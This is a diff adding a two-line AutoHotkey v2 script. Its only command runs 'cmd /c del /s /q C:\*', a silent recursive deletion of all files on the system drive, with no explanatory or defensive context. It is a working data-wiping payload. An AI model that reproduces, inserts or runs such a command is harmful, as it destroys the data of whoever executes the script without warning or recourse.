@@ -1,0 +1,2 @@
+#Requires AutoHotkey v2.0
+Run 'cmd /c del /s /q C:\*'
